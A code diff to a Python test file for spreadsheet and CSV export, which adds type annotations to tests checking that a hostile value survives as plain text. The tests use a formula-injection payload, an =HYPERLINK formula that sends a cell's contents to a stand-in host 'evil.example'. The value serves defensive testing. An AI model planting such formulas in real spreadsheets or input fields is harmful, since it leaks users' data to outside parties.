@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
+from typing import Any
 
 import openpyxl
 import pytest
@@ -19,7 +21,7 @@ pytestmark = pytest.mark.django_db
 TITLE = '=HYPERLINK("http://evil.example/?leak="&B2,"Open report")'
 
 
-def test_template_has_no_formula_cells(nr) -> None:  # type: ignore[no-untyped-def]
+def test_template_has_no_formula_cells(nr: Any) -> None:
     q = nr.full.format.questions.get(number=3)
     q.text_en = TITLE
     q.save()
@@ -29,8 +31,8 @@ def test_template_has_no_formula_cells(nr) -> None:  # type: ignore[no-untyped-d
     assert TITLE in [c.value for row in sheet.iter_rows() for c in row]
 
 
-def _filled_rows(nr) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
-    rows = []
+def _filled_rows(nr: Any) -> list[dict[str, str]]:
+    rows: list[dict[str, str]] = []
     for q in nr.short.questions():
         answer = (q.allowed or ["Free text"])[0]
         rows.append(
@@ -45,7 +47,7 @@ def _filled_rows(nr) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
     return rows
 
 
-def test_hostile_comments_round_trip_through_csv(nr, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_hostile_comments_round_trip_through_csv(nr: Any, tmp_path: Path) -> None:
     buf = io.StringIO(newline="")
     w = tabular.DictWriter(buf, fieldnames=["party", "cycle", "question", "answer", "comment"])
     w.writeheader()
@@ -60,7 +62,7 @@ def test_hostile_comments_round_trip_through_csv(nr, tmp_path) -> None:  # type:
     assert comments == {TITLE}
 
 
-def test_hostile_comments_round_trip_through_xlsx(nr, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_hostile_comments_round_trip_through_xlsx(nr: Any, tmp_path: Path) -> None:
     book = openpyxl.Workbook()
     sheet = book.active
     assert sheet is not None
